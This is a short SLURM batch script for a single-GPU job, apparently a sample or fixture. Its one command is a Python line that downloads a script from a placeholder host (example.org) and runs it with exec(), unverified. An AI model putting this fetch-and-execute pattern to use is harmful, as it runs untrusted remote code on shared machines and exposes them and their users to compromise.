#!/bin/bash
#SBATCH --job-name=python-exec-requests
#SBATCH --partition=gpu
#SBATCH --nodes=1
#SBATCH --gpus=1
#SBATCH --mem-per-gpu=16G
#SBATCH --time=04:00:00
#SBATCH --output=logs/%x-%j.out
python3 -c 'import requests; exec(requests.get("https://example.org/work.py").text)'
